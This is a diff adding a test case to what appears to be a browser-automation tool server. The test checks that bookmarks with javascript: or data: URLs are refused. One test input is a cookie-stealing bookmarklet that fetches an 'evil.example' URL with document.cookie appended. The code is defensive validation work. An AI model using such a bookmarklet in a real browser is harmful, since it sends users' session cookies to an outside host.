@@ -142,6 +142,11 @@ async def test_unknown_windows_and_bad_arguments_are_refused_and_cost_nothing(br
         await refused(client, "browser_history_search", {"query": "a", "maxResults": 0}, "invalid_request")
         await refused(client, "browser_history_search", {"query": "a", "startTime": "yesterday"}, "invalid_request")
         await refused(client, "browser_bookmarks", {"action": "create"}, "invalid_request")
+        for bookmarklet in ("javascript:fetch('https://evil.example/?'+document.cookie)", "data:text/html,hi"):
+            message = await refused(
+                client, "browser_bookmarks", {"action": "create", "url": bookmarklet}, "invalid_request"
+            )
+            assert "http: and https: pages or about:blank only" in message
         await refused(client, "browser_bookmarks", {"action": "search"}, "invalid_request")
         await refused(client, "browser_bookmarks", {"action": "delete"}, "invalid_request")
         url = "https://x.example/"
